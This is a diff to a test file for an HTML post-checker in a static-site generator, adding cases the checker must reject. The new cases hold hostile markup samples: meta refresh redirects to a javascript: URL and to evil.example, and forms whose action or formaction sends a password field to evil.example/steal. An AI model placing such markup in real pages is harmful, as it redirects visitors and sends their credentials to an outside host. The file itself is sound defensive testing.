@@ -56,12 +56,19 @@ from generator.postcheck import check_html, check_site, theme_inline_scripts
         ),
         (
             '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-            (
-                1,
-                1,
-                "javascript: URL in attribute 'content': "
-                '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-            ),
+            (1, 1, 'meta refresh is not allowed: <meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
+        ),
+        (
+            '<meta http-equiv=" Refresh" content="0;url=https://evil.example/">',
+            (1, 1, 'meta refresh is not allowed: <meta http-equiv=" Refresh" content="0;url=https://evil.example/">'),
+        ),
+        (
+            '<form action="https://evil.example/steal"><input type=password></form>',
+            (1, 1, "attribute 'action' sends a form to another host: <form action=\"https://evil.example/steal\">"),
+        ),
+        (
+            '<form><button formaction="//evil.example/">',
+            (1, 7, "attribute 'formaction' sends a form to another host: <button formaction=\"//evil.example/\">"),
         ),
         ("<iframe src=x></iframe>", (1, 1, "iframe element is not allowed: <iframe src=x>")),
         (
